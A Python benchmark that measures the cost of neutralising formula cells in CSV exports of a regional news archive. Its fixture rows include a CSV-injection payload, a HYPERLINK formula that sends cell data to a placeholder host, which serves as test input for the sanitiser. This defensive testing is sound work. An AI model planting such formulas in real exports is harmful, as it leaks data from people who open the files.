"""What neutralising formula cells costs a CSV export (archive/safe_csv.py).

Every ``.csv`` answer of the served archive passes through `CsvRewriter`. This bench
builds an items export the way Datasette writes it (``csv.writer``, the archive's
columns, bodies of a few thousand characters with line breaks and quotes, 1 % of titles
that are formulas), then measures, on the same bytes:

* the baseline: Datasette's own work, writing those rows with ``csv.writer``;
* the figure: `CsvRewriter` over the bytes in 64 KiB chunks (records without a suspect
  cell pass through unparsed);
* for reference, every record parsed and written again (no fast path).

    python -m bench safe_csv               # 50,000 rows
    python -m bench safe_csv --rows 200000
"""

from __future__ import annotations

import argparse
import csv
import io
import random
import time

from archive.safe_csv import CsvRewriter, _rewrite_record

FIGURE_LABEL = "CsvRewriter over the stream"
BASELINE_LABEL = "Datasette's csv.writer writing it"
CHUNK = 64 * 1024
WORDS = "marseille san diego provence côte azur région sud biotech port innovation".split()


def rows(count: int, seed: int = 7) -> list[list]:
    """Items rows in the archive's column order, of our own words."""
    rng = random.Random(seed)
    out = []
    for n in range(count):
        paragraphs = [
            " ".join(rng.choices(WORDS, k=rng.randint(40, 90))) + ' "cité" ' for _ in range(4)
        ]
        title = " ".join(rng.choices(WORDS, k=8))
        if n % 100 == 0:
            title = f'=HYPERLINK("http://x.example/?d="&A{n},"{title}")'
        out.append(
            [
                f"{n:016x}",
                rng.choice(["sdfacc", "region_sud", "rising_sud"]),
                "news",
                f"https://www.maregionsud.fr/actualites/{n}",
                f"https://www.maregionsud.fr/actualites/{n}",
                title,
                title.lower(),
                paragraphs[0][:200],
                "\n\n".join(paragraphs),
                "2024-03-12T10:00:00+01:00",
                "jsonld",
                2024,
                "2024-03",
                None,
                "fr",
                '["Service presse"]',
                "[]",
                "[]",
                None,
                "{}",
                None,
                round(rng.random() * 5, 2),
                "medium",
                "[]",
                "[]",
                None,
                "ab" * 32,
                1,
                "2026-12-01T00:00:00+00:00",
                "2026-12-01T00:00:00+00:00",
                1,
            ]
        )
    return out


def _timed(function) -> tuple[float, object]:
    started = time.perf_counter()
    result = function()
    return time.perf_counter() - started, result


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m bench safe_csv", description=__doc__)
    parser.add_argument("--rows", type=int, default=50_000)
    parser.add_argument("--quick", action="store_true", help="2,000 rows, to check it works")
    args = parser.parse_args(argv)
    count = 2_000 if args.quick else args.rows
    data_rows = rows(count)

    def write() -> bytes:
        buffer = io.StringIO(newline="")
        writer = csv.writer(buffer)
        for row in data_rows:
            writer.writerow(row)
        return buffer.getvalue().encode("utf-8")

    write_s, data = _timed(write)

    def rewrite() -> bytes:
        rewriter = CsvRewriter()
        parts = [rewriter.feed(data[i : i + CHUNK]) for i in range(0, len(data), CHUNK)]
        return b"".join(parts) + rewriter.close()

    rewrite_s, rewritten = _timed(rewrite)

    def reparse_all() -> int:
        text = data.decode("utf-8")
        out = io.StringIO(newline="")
        writer = csv.writer(out, lineterminator="\r\n")
        for row in csv.reader(io.StringIO(text, newline="")):
            writer.writerow(row)
        return len(_rewrite_record(""))

    reparse_s, _ = _timed(reparse_all)
    changed = sum(1 for line in rewritten.split(b"\r\n") if b",\"'=HYPERLINK" in line)
    megabytes = len(data) / 2**20
    print(f"{count:,} rows, {megabytes:.1f} MiB of CSV; formula titles made inert: {changed:,}")
    print()
    print("| what | seconds | MiB/s | rows/s |")
    print("|---|---|---|---|")
    for label, seconds in (
        (BASELINE_LABEL + " (baseline)", write_s),
        (FIGURE_LABEL, rewrite_s),
        ("every record parsed and written again (reference)", reparse_s),
    ):
        print(f"| {label} | {seconds:.3f} | {megabytes / seconds:.1f} | {count / seconds:,.0f} |")
    print()
    print(f"| {FIGURE_LABEL}, time added to the baseline | {100 * rewrite_s / write_s:.0f} % |")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
